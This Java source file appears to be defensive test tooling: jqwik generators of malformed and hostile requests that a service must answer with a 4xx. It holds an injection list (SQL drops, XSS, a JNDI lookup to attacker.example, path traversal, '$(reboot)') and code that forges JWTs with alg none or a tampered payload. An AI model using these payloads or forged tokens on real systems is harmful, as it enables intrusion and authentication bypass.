package dev.amends.testing;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import dev.amends.local.DevKeys;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Combinators;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Base64;
import java.util.HashSet;
import java.util.Iterator;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.UUID;
import java.util.function.Predicate;
import java.util.regex.Pattern;

/**
 * Generators (jqwik) of malformed and hostile requests: bodies that break a request's JSON Schema
 * one way each, starting from a valid body (missing and unknown properties, wrong types, values
 * outside an enum, a range, a pattern or a length, values the service checks in code), bodies that
 * are not JSON, not UTF-8, nested too deep or too large, the wrong content type, hostile path and
 * query values, and tokens that must not get in (none, garbage, expired, forged, {@code alg: none},
 * another issuer, a tampered payload, the wrong role). Every request says what it expects: a 4xx,
 * never a 2xx or a 5xx. {@link HostileRun} sends them.
 */
public final class HostileRequests {

    /**
     * One request and the statuses it may get; empty {@code expected} means any 4xx. A chunked one
     * is sent without {@code Content-Length}.
     */
    public record Request(String what, String method, String path, Map<String, String> headers, byte[] body,
                          Set<Integer> expected, boolean html, boolean chunked) {

        public Request(String what, String method, String path, Map<String, String> headers, byte[] body,
                       Set<Integer> expected, boolean html) {
            this(what, method, path, headers, body, expected, html, false);
        }

        /** The same request with one more header (an Idempotency-Key an endpoint requires, say). */
        public Request withHeader(String name, String value) {
            Map<String, String> more = new LinkedHashMap<>(headers);
            more.put(name, value);
            return new Request(what, method, path, more, body, expected, html, chunked);
        }

        @Override
        public String toString() {
            String text = body == null ? "" : new String(body, StandardCharsets.UTF_8);
            return what + ": " + method + " " + abbreviate(path) + " " + abbreviate(text);
        }
    }

    /** Strings that attack parsers, queries, templates and logs; none is a valid enum, date, number or id. */
    public static final List<String> INJECTIONS = List.of(
            "' OR '1'='1", "'; DROP TABLE incident; --", "\"; DELETE FROM outbox_event; --", "1; SELECT pg_sleep(5)",
            "<script>alert(1)</script>", "${jndi:ldap://attacker.example/a}", "{{7*7}}", "#{7*7}", "%{7*7}",
            "../../etc/passwd", "..\\..\\windows\\win.ini", "\u0000", "nul\u0000byte", "line\r\nInjected: header",
            "$(reboot)", "`id`", "\u202Egnp.exe", "\uFEFFbom", "\uD83D\uDE00\uD83D\uDE00", "NaN", "Infinity",
            "-0x1", "1e309", "__proto__", "constructor", "%s%s%s%n", "\\u0000", "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA");

    private static final ObjectMapper MAPPER = new ObjectMapper();
    private static final JsonNodeFactory JSON = JsonNodeFactory.instance;
    private static final int BODY_LIMIT = 64 * 1024;

    private HostileRequests() {
    }

    /**
     * NDJSON bodies ({@code application/x-ndjson}) built from a valid line: over the body limit
     * (many lines, one huge line; with Content-Length and chunked), and lines that are not JSON
     * objects, truncated or invalid UTF-8. {@code malformed} is what the endpoint answers a
     * malformed body under the limit (400 where NDJSON is taken, 415 where it is not),
     * {@code overLimit} one over it (413; an endpoint that takes no NDJSON may answer a chunked
     * one 415 before it reads the body).
     */
    public static Arbitrary<Request> ndjsonBodies(String method, String path, String token, String validLine,
                                                  Set<Integer> malformed, Set<Integer> overLimit) {
        Map<String, String> headers = headers(token, "application/x-ndjson");
        byte[] line = (validLine.strip() + "\n").getBytes(StandardCharsets.UTF_8);
        List<Arbitrary<Request>> kinds = new ArrayList<>();
        kinds.add(Arbitraries.integers().between(BODY_LIMIT + 1, 16 * BODY_LIMIT).map(size ->
                raw("NDJSON of " + size + " bytes", method, path, headers, repeatedTo(line, size), overLimit)));
        kinds.add(Arbitraries.integers().between(BODY_LIMIT + 1, 16 * BODY_LIMIT).map(size ->
                chunked("chunked NDJSON of " + size + " bytes", method, path, headers, repeatedTo(line, size), overLimit)));
        kinds.add(Arbitraries.integers().between(BODY_LIMIT + 1, 4 * BODY_LIMIT).map(size ->
                chunked("one NDJSON line of " + size + " bytes", method, path, headers,
                        concat(line, "{\"x\": \"" + "a".repeat(size) + "\"}\n"), overLimit)));
        kinds.add(Arbitraries.of("[]\n", "42\n", "not json\n", "{\"a\":}\n", "\n\n\n", "{}{}\n", "\uFEFF{}\n")
                .map(bad -> raw("NDJSON with the line " + bad.strip(), method, path, headers, concat(line, bad), malformed)));
        kinds.add(Arbitraries.integers().between(1, line.length - 2).map(cut ->
                raw("NDJSON with a truncated last line", method, path, headers,
                        concat(line, new String(java.util.Arrays.copyOf(line, cut), StandardCharsets.UTF_8)), malformed)));
        kinds.add(invalidUtf8().map(bytes -> {
            byte[] body = java.util.Arrays.copyOf(line, line.length + bytes.length + 1);
            System.arraycopy(bytes, 0, body, line.length, bytes.length);
            body[body.length - 1] = '\n';
            return raw("NDJSON with invalid UTF-8", method, path, headers, body, malformed);
        }));
        return Arbitraries.oneOf(kinds);
    }

    /** Copies of {@code line} until the body is at least {@code size} bytes. */
    private static byte[] repeatedTo(byte[] line, int size) {
        byte[] body = new byte[(size / line.length + 1) * line.length];
        for (int at = 0; at < body.length; at += line.length) {
            System.arraycopy(line, 0, body, at, line.length);
        }
        return body;
    }

    /**
     * Bodies that each break the schema once, sent with a valid token to {@code method path}.
     * {@code invalidInCode} lists, per JSON pointer ({@code /customer/email}), values the schema
     * lets through but the service must reject (formats and rules checked in code).
     */
    public static Arbitrary<Request> bodies(String method, String path, String token, String validBody,
                                            JsonNode schema, Map<String, List<String>> invalidInCode) {
        return bodies(method, path, token, "application/json", BODY_LIMIT, validBody, schema, invalidInCode);
    }

    /**
     * The same for an endpoint that takes {@code contentType} (one JSON object, such as a single
     * NDJSON line) up to {@code bodyLimit} bytes.
     */
    public static Arbitrary<Request> bodies(String method, String path, String token, String contentType, int bodyLimit,
                                            String validBody, JsonNode schema, Map<String, List<String>> invalidInCode) {
        ObjectNode seed = (ObjectNode) read(validBody);
        List<Field> fields = new ArrayList<>();
        List<String> objects = new ArrayList<>();
        collect(schema, "", fields, objects);
        Map<String, String> headers = headers(token, contentType);
        int overLimit = Math.min(4 * bodyLimit, bodyLimit + 4 * BODY_LIMIT);
        List<Arbitrary<Request>> kinds = new ArrayList<>();

        List<Field> required = fields.stream().filter(Field::required).toList();
        if (!required.isEmpty()) {
            kinds.add(Arbitraries.of(required).map(field ->
                    json("missing required " + field.pointer(), method, path, headers, remove(seed, field.pointer()))));
        }
        kinds.add(Combinators.combine(Arbitraries.of(objects), propertyNames(fields), jsonValues())
                .as((object, name, value) -> json("unknown property " + object + "/" + name, method, path, headers,
                        set(seed, object + "/" + name, value))));
        kinds.add(Arbitraries.of(fields).flatMap(field -> Arbitraries.of(wrongTypes(field.schema()))
                .map(value -> json("wrong type at " + field.pointer(), method, path, headers,
                        set(seed, field.pointer(), value)))));
        List<Field> enums = fields.stream().filter(field -> field.schema().has("enum")).toList();
        if (!enums.isEmpty()) {
            kinds.add(Arbitraries.of(enums).flatMap(field -> outsideEnum(field.schema().get("enum"))
                    .map(value -> json("outside the enum at " + field.pointer(), method, path, headers,
                            set(seed, field.pointer(), JSON.textNode(value))))));
        }
        List<Field> bounded = fields.stream().filter(field -> field.schema().has("maxLength")).toList();
        if (!bounded.isEmpty()) {
            kinds.add(Arbitraries.of(bounded).flatMap(field -> Arbitraries.integers().between(1, 3000)
                    .map(extra -> json("too long at " + field.pointer(), method, path, headers,
                            set(seed, field.pointer(), JSON.textNode(codePoints(field.schema().get("maxLength").asInt() + extra)))))));
        }
        List<Field> nonEmpty = fields.stream().filter(field -> field.schema().path("minLength").asInt() > 0).toList();
        if (!nonEmpty.isEmpty()) {
            kinds.add(Arbitraries.of(nonEmpty).map(field ->
                    json("empty string at " + field.pointer(), method, path, headers, set(seed, field.pointer(), JSON.textNode("")))));
        }
        List<Field> patterned = fields.stream().filter(field -> field.schema().has("pattern")).toList();
        if (!patterned.isEmpty()) {
            kinds.add(Arbitraries.of(patterned).flatMap(field -> {
                Pattern pattern = Pattern.compile(field.schema().get("pattern").asText());
                return hostileStrings().filter(value -> !pattern.matcher(value).find())
                        .map(value -> json("outside the pattern at " + field.pointer(), method, path, headers,
                                set(seed, field.pointer(), JSON.textNode(value))));
            }));
        }
        List<Field> ranged = fields.stream().filter(field -> field.schema().has("minimum") || field.schema().has("maximum")).toList();
        if (!ranged.isEmpty()) {
            kinds.add(Arbitraries.of(ranged).flatMap(field -> outsideRange(field.schema())
                    .map(value -> json("out of range at " + field.pointer(), method, path, headers,
                            set(seed, field.pointer(), JSON.numberNode(value))))));
        }
        if (!invalidInCode.isEmpty()) {
            kinds.add(Arbitraries.of(new ArrayList<>(invalidInCode.keySet())).flatMap(pointer ->
                    Arbitraries.of(invalidInCode.get(pointer)).map(value -> json("rejected in code at " + pointer,
                            method, path, headers, set(seed, pointer, JSON.textNode(value))))));
        }
        byte[] valid = write(seed);
        kinds.add(Arbitraries.integers().between(0, valid.length - 1).map(cut ->
                raw("truncated JSON", method, path, headers, java.util.Arrays.copyOf(valid, cut), Set.of(400))));
        kinds.add(Arbitraries.of("}", "]", ",", "{}", "x", "\"", "// comment", "/* comment */", "'single'")
                .map(tail -> raw("trailing garbage", method, path, headers, concat(valid, tail), Set.of(400))));
        kinds.add(Arbitraries.of("[]", "[" + new String(valid, StandardCharsets.UTF_8) + "]", "\"text\"", "42",
                        "null", "true", "", " ", "{", "{\"a\":}", "{'single': 'quotes'}", "{a: 1}", "NaN")
                .map(body -> raw("not a JSON object", method, path, headers, body.getBytes(StandardCharsets.UTF_8), Set.of(400))));
        List<Field> strings = fields.stream().filter(field -> seed.at(field.pointer()).isTextual()).toList();
        if (!strings.isEmpty()) {
            kinds.add(Combinators.combine(Arbitraries.of(strings), invalidUtf8()).as((field, bytes) ->
                    raw("invalid UTF-8 at " + field.pointer(), method, path, headers, withBytes(seed, field.pointer(), bytes),
                            Set.of(400))));
        }
        kinds.add(Combinators.combine(Arbitraries.integers().between(100, 100_000), Arbitraries.of("[", "{\"a\":"),
                Arbitraries.of(fields)).as((depth, opener, field) ->
                raw("nested " + depth + " deep at " + field.pointer(), method, path, headers,
                        nested(seed, field.pointer(), opener, depth), Set.of(400, 413))));
        kinds.add(Arbitraries.integers().between(bodyLimit + 1, overLimit).map(size ->
                raw("body of " + size + " bytes", method, path, headers, padded(seed, size), Set.of(413))));
        kinds.add(Arbitraries.integers().between(bodyLimit + 1, overLimit).map(size ->
                chunked("chunked body of " + size + " bytes", method, path, headers, padded(seed, size), Set.of(413))));
        kinds.add(Arbitraries.integers().between(0, valid.length - 1).map(cut ->
                chunked("chunked truncated JSON", method, path, headers, java.util.Arrays.copyOf(valid, cut), Set.of(400))));
        kinds.add(Arbitraries.of("text/plain", "application/xml", "application/x-www-form-urlencoded",
                "multipart/form-data; boundary=x", "application/octet-stream", "text/html").map(type ->
                raw("content type " + type, method, path, headers(token, type), valid, Set.of(415))));
        return Arbitraries.oneOf(kinds);
    }

    /**
     * Tokens that must not get in, on a request that would otherwise be valid: none, garbage,
     * another scheme, expired, forged, {@code alg: none}, another issuer, a tampered payload (401),
     * and valid tokens without a role the operation allows (403).
     */
    public static Arbitrary<Request> tokens(String method, String path, String validBody, DevKeys keys,
                                            Set<String> allowedRoles) {
        byte[] body = validBody == null ? null : validBody.getBytes(StandardCharsets.UTF_8);
        String[] allowed = allowedRoles.toArray(String[]::new);
        List<String> otherRoles = AuthorizationMatrix.ROLES.stream().filter(role -> !allowedRoles.contains(role)).toList();
        List<Arbitrary<Request>> kinds = new ArrayList<>(List.of(
                Arbitraries.just(withToken("no token", method, path, null, body, 401)),
                Arbitraries.strings().withCharRange('!', '~').ofMinLength(1).ofMaxLength(2000)
                        .map(garbage -> withToken("garbage token", method, path, "Bearer " + garbage, body, 401)),
                Arbitraries.strings().alpha().ofMinLength(1).ofMaxLength(40).map(user -> withToken("basic credentials",
                        method, path, "Basic " + Base64.getEncoder().encodeToString((user + ":secret").getBytes(StandardCharsets.UTF_8)),
                        body, 401)),
                Arbitraries.just(0).map(ignored -> withToken("expired token", method, path,
                        "Bearer " + keys.expiredToken("mallory", allowed), body, 401)),
                Arbitraries.just(0).map(ignored -> withToken("forged token", method, path,
                        "Bearer " + DevKeys.forgedToken("mallory", allowed), body, 401)),
                Arbitraries.of("none", "None", "NONE", "HS256").map(algorithm -> withToken("alg " + algorithm, method, path,
                        "Bearer " + unsigned(keys.token("mallory", Duration.ofMinutes(5), allowed), algorithm), body, 401)),
                Arbitraries.of("https://attacker.example", "", DevKeys.ISSUER + "/").map(issuer -> withToken(
                        "issuer '" + issuer + "'", method, path,
                        "Bearer " + keys.token(issuer, "mallory", Duration.ofMinutes(5), allowed), body, 401)),
                Arbitraries.just(0).map(ignored -> withToken("tampered payload", method, path,
                        "Bearer " + tampered(keys.token("mallory", Duration.ofMinutes(5)), allowed), body, 401)),
                Arbitraries.just(0).map(ignored -> withToken("no role", method, path,
                        "Bearer " + keys.token("mallory", Duration.ofMinutes(5)), body, 403))));
        if (!otherRoles.isEmpty()) {
            kinds.add(Arbitraries.of(otherRoles).map(role -> withToken("role " + role, method, path,
                    "Bearer " + keys.token("mallory", Duration.ofMinutes(5), role), body, 403)));
        }
        return Arbitraries.oneOf(kinds);
    }

    /**
     * Hostile values for one path parameter of {@code template} (the others keep their given
     * values): injections, unknown ids, near-ids, long and odd strings. Any 4xx.
     */
    public static Arbitrary<Request> pathValues(String method, String template, Map<String, String> values,
                                                String token, String validBody, boolean html) {
        List<String> names = new ArrayList<>(values.keySet());
        byte[] body = validBody == null ? null : validBody.getBytes(StandardCharsets.UTF_8);
        Arbitrary<String> hostile = Arbitraries.oneOf(hostileStrings(),
                Combinators.combine(Arbitraries.longs(), Arbitraries.longs())
                        .as((high, low) -> new UUID(high, low).toString()),
                Arbitraries.of("00000000-0000-0000-0000-00000000000g", "00000000-0000-0000-0000-0000000000000",
                        "{id}", "%", "null", "-1", "0", "..%2F..%2Fq%2Fhealth"),
                // Long, but under the 4 KiB request line that the HTTP codec answers with a bare 414.
                Arbitraries.strings().alpha().numeric().ofMinLength(1000).ofMaxLength(3500))
                .filter(value -> !value.isBlank() && !value.equals(".") && !value.equals(".."));
        return Combinators.combine(Arbitraries.of(names), hostile).as((name, value) -> {
            String path = template;
            for (String each : names) {
                path = path.replace("{" + each + "}", each.equals(name) ? encode(value) : values.get(each));
            }
            Map<String, String> headers = headers(token, html ? null : "application/json");
            return new Request("hostile {" + name + "}", method, path, headers, body, Set.of(), html);
        });
    }

    /**
     * Hostile values for query parameters the service validates (enums, dates, numbers, booleans,
     * patterns): 400. Each parameter comes with what would be valid for it, so that a generated
     * value that happens to be valid is not sent.
     */
    public static Arbitrary<Request> queryValues(String method, String path, String token,
                                                 Map<String, Predicate<String>> validParameters) {
        Arbitrary<String> hostile = Arbitraries.oneOf(hostileStrings().filter(value -> !value.isBlank()),
                Arbitraries.of("-1", "1.5", "0x10", "99999999999999999999", "2026-13-45", "2026-02-30T10:00:00Z",
                        "2026-11-23T25:00:00Z", "yesterday", "maybe", "1e3", "+1"));
        List<String> names = new ArrayList<>(validParameters.keySet());
        return Arbitraries.of(names).flatMap(name -> hostile.filter(value -> !validParameters.get(name).test(value))
                .map(value -> new Request("hostile ?" + name, method,
                        path + (path.contains("?") ? "&" : "?") + name + "=" + encode(value),
                        headers(token, null), null, Set.of(400), false)));
    }

    /**
     * Text filters ({@code names}) a service must refuse with 400: a value with a control character
     * somewhere in it (the database refuses a NUL), or one character longer than {@code maxLength} or more.
     */
    public static Arbitrary<Request> textFilters(String method, String path, String token, List<String> names,
                                                 int maxLength) {
        Arbitrary<String> withControl = Combinators.combine(
                Arbitraries.strings().withCharRange(' ', '~').ofMaxLength(20),
                Arbitraries.chars().range('\u0000', '\u001f'),
                Arbitraries.strings().withCharRange(' ', '~').ofMaxLength(20))
                .as((before, control, after) -> before + control + after);
        Arbitrary<String> tooLong = Arbitraries.strings().withCharRange('a', 'z').ofMinLength(maxLength + 1)
                .ofMaxLength(maxLength + 100);
        return Arbitraries.of(names).flatMap(name -> Arbitraries.oneOf(withControl, tooLong)
                .map(value -> new Request("refused text ?" + name, method,
                        path + (path.contains("?") ? "&" : "?") + name + "=" + encode(value),
                        headers(token, null), null, Set.of(400), false)));
    }

    /**
     * Pages whose {@code page} and {@code size} are each valid but reach deeper than 1,000,000 rows
     * ({@code page × size} overflows an int for many of them): 400.
     */
    public static Arbitrary<Request> deepPages(String method, String path, String token) {
        return Arbitraries.integers().between(1, 500).flatMap(size ->
                Arbitraries.integers().between(1_000_000 / size, Integer.MAX_VALUE)
                        .filter(page -> (page + 1L) * size > 1_000_000)
                        .map(page -> new Request("deep page " + page + " of size " + size, method,
                                path + (path.contains("?") ? "&" : "?") + "page=" + page + "&size=" + size,
                                headers(token, null), null, Set.of(400), false)));
    }

    /** What an integer query parameter accepts (any value {@link Integer#parseInt} reads). */
    public static boolean isInteger(String value) {
        try {
            Integer.parseInt(value);
            return true;
        } catch (NumberFormatException e) {
            return false;
        }
    }

    /** What a date-time query parameter accepts (RFC 3339 with an offset). */
    public static boolean isDateTime(String value) {
        try {
            java.time.OffsetDateTime.parse(value);
            return true;
        } catch (java.time.format.DateTimeParseException e) {
            return false;
        }
    }

    /** What an enum query parameter accepts: one of the constants, exactly. */
    public static Predicate<String> isOneOf(Class<? extends Enum<?>> type) {
        return value -> java.util.Arrays.stream(type.getEnumConstants()).anyMatch(constant -> constant.name().equals(value));
    }

    /**
     * Form posts of the survey page with one field outside what the form offers: 400, as a page.
     * Each field comes with what would be valid for it; blank values count as valid (an optional
     * field left empty).
     */
    public static Arbitrary<Request> forms(String path, Map<String, String> validForm,
                                           Map<String, Predicate<String>> validFields) {
        Arbitrary<String> hostile = Arbitraries.oneOf(hostileStrings(), Arbitraries.of("0", "6", "-1", "99999999999", "3.5"),
                Arbitraries.strings().alpha().ofMinLength(2001).ofMaxLength(5000),
                // Just past the limit in characters that percent-encode to six bytes each (and more).
                Arbitraries.strings().withChars("æøåÆØÅ€ß").ofMinLength(2001).ofMaxLength(2100));
        List<String> names = new ArrayList<>(validFields.keySet());
        return Arbitraries.of(names).flatMap(field -> hostile
                .filter(value -> !value.isBlank() && !validFields.get(field).test(value))
                .map(value -> {
                    Map<String, String> form = new LinkedHashMap<>(validForm);
                    form.put(field, value);
                    StringBuilder body = new StringBuilder();
                    form.forEach((name, each) -> body.append(body.isEmpty() ? "" : "&").append(encode(name)).append('=')
                            .append(encode(each)));
                    return new Request("hostile form field " + field, "POST", path,
                            headers(null, "application/x-www-form-urlencoded"), body.toString().getBytes(StandardCharsets.UTF_8),
                            Set.of(400), true);
                }));
    }

    // --- the schema ---------------------------------------------------------------------------

    private record Field(String pointer, JsonNode schema, boolean required) {
    }

    /**
     * A request schema from the class path with every {@code $ref} to a sibling file put in its
     * place, so that the generators reach the fields it holds too.
     */
    public static JsonNode schema(String resource) {
        String folder = resource.substring(0, resource.lastIndexOf('/') + 1);
        try (var in = Thread.currentThread().getContextClassLoader().getResourceAsStream(resource)) {
            if (in == null) {
                throw new IllegalArgumentException("no schema " + resource);
            }
            return inline(MAPPER.readTree(in), folder);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private static JsonNode inline(JsonNode node, String folder) {
        if (node.isObject() && node.path("$ref").isTextual() && !node.get("$ref").asText().startsWith("#")) {
            return schema(folder + node.get("$ref").asText());
        }
        if (node.isContainerNode()) {
            if (node.isObject()) {
                ObjectNode object = (ObjectNode) node;
                object.properties().forEach(entry -> entry.setValue(inline(entry.getValue(), folder)));
            } else {
                ArrayNode array = (ArrayNode) node;
                for (int i = 0; i < array.size(); i++) {
                    array.set(i, inline(array.get(i), folder));
                }
            }
        }
        return node;
    }

    private static void collect(JsonNode schema, String prefix, List<Field> fields, List<String> objects) {
        objects.add(prefix);
        Set<String> required = new HashSet<>();
        schema.path("required").forEach(name -> required.add(name.asText()));
        for (Iterator<Map.Entry<String, JsonNode>> properties = schema.path("properties").fields(); properties.hasNext(); ) {
            Map.Entry<String, JsonNode> property = properties.next();
            String pointer = prefix + "/" + property.getKey();
            fields.add(new Field(pointer, property.getValue(), required.contains(property.getKey())));
            if (types(property.getValue()).contains("object")) {
                collect(property.getValue(), pointer, fields, objects);
            }
        }
    }

    private static Set<String> types(JsonNode schema) {
        Set<String> types = new HashSet<>();
        JsonNode type = schema.get("type");
        if (type != null) {
            if (type.isArray()) {
                type.forEach(each -> types.add(each.asText()));
            } else {
                types.add(type.asText());
            }
        }
        if (schema.has("enum")) {
            schema.get("enum").forEach(value -> types.add(value.isNull() ? "null" : "enum"));
        }
        return types;
    }

    /** Values of every JSON type the field does not allow. */
    private static List<JsonNode> wrongTypes(JsonNode schema) {
        Set<String> types = types(schema);
        List<JsonNode> wrong = new ArrayList<>();
        if (!types.contains("null")) {
            wrong.add(JSON.nullNode());
        }
        if (!types.contains("boolean")) {
            wrong.add(JSON.booleanNode(true));
        }
        if (!types.contains("integer") && !types.contains("number")) {
            wrong.add(JSON.numberNode(42));
        }
        if (!types.contains("number")) {
            wrong.add(JSON.numberNode(2.5));
        }
        if (!types.contains("string") && !types.contains("enum")) {
            wrong.add(JSON.textNode("5"));
        }
        if (!types.contains("array")) {
            wrong.add(JSON.arrayNode().add("x"));
        }
        if (!types.contains("object")) {
            wrong.add(JSON.objectNode().put("value", "x"));
        }
        return wrong;
    }

    private static Arbitrary<String> outsideEnum(JsonNode values) {
        Set<String> allowed = new HashSet<>();
        values.forEach(value -> allowed.add(value.asText()));
        List<String> nearMisses = new ArrayList<>();
        allowed.forEach(value -> nearMisses.addAll(List.of(value.toLowerCase(), " " + value, value + " ", value + "S")));
        return Arbitraries.oneOf(hostileStrings(), Arbitraries.of(nearMisses)).filter(value -> !allowed.contains(value));
    }

    private static Arbitrary<Long> outsideRange(JsonNode schema) {
        List<Arbitrary<Long>> sides = new ArrayList<>();
        if (schema.has("minimum")) {
            long minimum = schema.get("minimum").asLong();
            sides.add(Arbitraries.longs().between(1, 1_000_000_000L).map(below -> minimum - below));
        }
        if (schema.has("maximum")) {
            long maximum = schema.get("maximum").asLong();
            sides.add(Arbitraries.longs().between(1, 1_000_000_000L).map(above -> maximum + above));
        }
        return Arbitraries.oneOf(sides);
    }

    private static Arbitrary<String> propertyNames(List<Field> fields) {
        Set<String> known = new HashSet<>();
        fields.forEach(field -> known.add(field.pointer().substring(field.pointer().lastIndexOf('/') + 1)));
        return Arbitraries.oneOf(Arbitraries.strings().alpha().ofMinLength(1).ofMaxLength(30),
                        Arbitraries.of("__proto__", "constructor", "id", "status", "owner", "createdAt", "$ref", ""))
                .filter(name -> !known.contains(name));
    }

    private static Arbitrary<JsonNode> jsonValues() {
        return Arbitraries.oneOf(hostileStrings().map(JSON::textNode), Arbitraries.integers().map(JSON::numberNode),
                Arbitraries.of(JSON.nullNode(), JSON.booleanNode(false), JSON.arrayNode(), JSON.objectNode()));
    }

    private static Arbitrary<String> hostileStrings() {
        return Arbitraries.oneOf(Arbitraries.of(INJECTIONS),
                Arbitraries.strings().all().ofMinLength(1).ofMaxLength(60),
                Arbitraries.strings().withCharRange(' ', '~').ofMinLength(1).ofMaxLength(60));
    }

    private static Arbitrary<byte[]> invalidUtf8() {
        return Arbitraries.of(new byte[] {(byte) 0xFF}, new byte[] {(byte) 0xC3, 0x28}, new byte[] {(byte) 0x80},
                new byte[] {(byte) 0xC0, (byte) 0xAF}, new byte[] {(byte) 0xED, (byte) 0xA0, (byte) 0x80},
                new byte[] {(byte) 0xF8, (byte) 0x88, (byte) 0x80, (byte) 0x80, (byte) 0x80},
                new byte[] {(byte) 0xE2, (byte) 0x82}, new byte[] {(byte) 0xFE, (byte) 0xFF});
    }

    // --- building bodies ----------------------------------------------------------------------

    private static Request json(String what, String method, String path, Map<String, String> headers, JsonNode body) {
        return raw(what, method, path, headers, write(body), Set.of(400));
    }

    private static Request raw(String what, String method, String path, Map<String, String> headers, byte[] body,
                               Set<Integer> expected) {
        return new Request(what, method, path, headers, body, expected, false);
    }

    private static Request chunked(String what, String method, String path, Map<String, String> headers, byte[] body,
                                   Set<Integer> expected) {
        return new Request(what, method, path, headers, body, expected, false, true);
    }

    private static Request withToken(String what, String method, String path, String authorization, byte[] body,
                                     int expected) {
        Map<String, String> headers = new LinkedHashMap<>();
        if (body != null) {
            headers.put("Content-Type", "application/json");
        }
        if (authorization != null) {
            headers.put("Authorization", authorization);
        }
        return new Request(what, method, path, headers, body, Set.of(expected), false);
    }

    private static Map<String, String> headers(String token, String contentType) {
        Map<String, String> headers = new LinkedHashMap<>();
        if (contentType != null) {
            headers.put("Content-Type", contentType);
        }
        if (token != null) {
            headers.put("Authorization", "Bearer " + token);
        }
        return headers;
    }

    private static JsonNode remove(ObjectNode seed, String pointer) {
        ObjectNode copy = seed.deepCopy();
        parent(copy, pointer).remove(last(pointer));
        return copy;
    }

    private static JsonNode set(ObjectNode seed, String pointer, JsonNode value) {
        ObjectNode copy = seed.deepCopy();
        parent(copy, pointer).set(last(pointer), value);
        return copy;
    }

    /** The object that holds the pointer's last property, created along the way when absent. */
    private static ObjectNode parent(ObjectNode root, String pointer) {
        ObjectNode node = root;
        String[] steps = pointer.substring(1).split("/", -1);
        for (int i = 0; i < steps.length - 1; i++) {
            JsonNode next = node.get(steps[i]);
            if (!(next instanceof ObjectNode)) {
                next = node.putObject(steps[i]);
            }
            node = (ObjectNode) next;
        }
        return node;
    }

    private static String last(String pointer) {
        return pointer.substring(pointer.lastIndexOf('/') + 1);
    }

    private static final String MARKER = "\u0001hostile\u0001";

    /** The seed with the field's value replaced by raw bytes, inside the quotes of a string. */
    private static byte[] withBytes(ObjectNode seed, String pointer, byte[] bytes) {
        return splice(write(set(seed, pointer, JSON.textNode("a" + MARKER + "b"))), "\\u0001hostile\\u0001", bytes);
    }

    private static byte[] nested(ObjectNode seed, String pointer, String opener, int depth) {
        String closer = opener.equals("[") ? "]" : "}";
        byte[] deep = (opener.repeat(depth) + "1" + closer.repeat(depth)).getBytes(StandardCharsets.US_ASCII);
        return splice(write(set(seed, pointer, JSON.textNode(MARKER))), "\"\\u0001hostile\\u0001\"", deep);
    }

    private static byte[] padded(ObjectNode seed, int size) {
        ObjectNode copy = seed.deepCopy();
        int room = Math.max(1, size - write(seed).length);
        copy.put("padding", "x".repeat(room));
        return write(copy);
    }

    private static byte[] splice(byte[] body, String marker, byte[] replacement) {
        String text = new String(body, StandardCharsets.UTF_8);
        int at = text.indexOf(marker);
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.writeBytes(text.substring(0, at).getBytes(StandardCharsets.UTF_8));
        out.writeBytes(replacement);
        out.writeBytes(text.substring(at + marker.length()).getBytes(StandardCharsets.UTF_8));
        return out.toByteArray();
    }

    private static byte[] concat(byte[] body, String tail) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.writeBytes(body);
        out.writeBytes(tail.getBytes(StandardCharsets.UTF_8));
        return out.toByteArray();
    }

    /** A string of {@code length} code points, some of them outside the basic plane. */
    private static String codePoints(int length) {
        StringBuilder text = new StringBuilder();
        for (int i = 0; i < length; i++) {
            text.appendCodePoint(i % 7 == 0 ? 0x1F600 : i % 5 == 0 ? 'é' : 'x');
        }
        return text.toString();
    }

    /** The token's header swapped for an unsigned one of the given algorithm, signature dropped. */
    private static String unsigned(String token, String algorithm) {
        String header = Base64.getUrlEncoder().withoutPadding().encodeToString(
                ("{\"alg\":\"" + algorithm + "\",\"typ\":\"JWT\"}").getBytes(StandardCharsets.UTF_8));
        return header + "." + token.split("\\.")[1] + ".";
    }

    /** A valid token without roles whose payload was swapped for one with the roles, signature kept. */
    private static String tampered(String token, String... roles) {
        String[] parts = token.split("\\.");
        ObjectNode claims = (ObjectNode) read(new String(Base64.getUrlDecoder().decode(parts[1]), StandardCharsets.UTF_8));
        ArrayNode groups = claims.putArray("groups");
        for (String role : roles) {
            groups.add(role);
        }
        return parts[0] + "." + Base64.getUrlEncoder().withoutPadding().encodeToString(write(claims)) + "." + parts[2];
    }

    private static String encode(String value) {
        return URLEncoder.encode(value, StandardCharsets.UTF_8).replace("+", "%20");
    }

    private static JsonNode read(String json) {
        try {
            return MAPPER.readTree(json);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private static byte[] write(JsonNode json) {
        try {
            return MAPPER.writeValueAsBytes(json);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private static String abbreviate(String text) {
        return text.length() <= 300 ? text : text.substring(0, 300) + "... (" + text.length() + " characters)";
    }
}
